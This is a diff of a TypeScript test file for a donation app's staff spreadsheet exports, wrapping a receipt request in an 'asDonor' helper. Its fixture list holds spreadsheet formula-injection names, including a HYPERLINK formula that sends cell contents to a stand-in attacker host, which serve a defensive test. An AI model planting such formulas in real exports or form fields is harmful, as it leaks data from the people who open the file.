@@ -8,7 +8,7 @@ import { Workbook } from 'exceljs';
 import { randomUUID } from 'node:crypto';
 import { formatYuan } from '../src/common/money';
 import { eventually } from './support/smtp-sink';
-import { createCampaign, createDonation, login, notifySandbox, startApp, TestApp } from './support/test-app';
+import { createCampaign, createDonation, login, notifySandbox, startApp, TestApp, asDonor } from './support/test-app';
 
 const ID_NUMBER = '11010519491231002X';
 const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+8613800138000', '-2+3', '@SUM(1+1)'];
@@ -66,7 +66,7 @@ describe('staff exports', () => {
     // A receipt for the donor whose name is a formula.
     const hostile = HOSTILE_NAMES[0];
     const request = await t.request('POST', '/api/receipt-requests', {
-      body: {
+      body: asDonor({
         campaignCode: campaign,
         orderNo: orders[hostile],
         amountFen: 20000,
@@ -76,7 +76,7 @@ describe('staff exports', () => {
         invoiceTitle: '=1+1',
         phone: '13800138000',
         email: 'x@example.com',
-      },
+      }),
     });
     expect(request.status).toBe(201);
     receiptNo = await eventually(
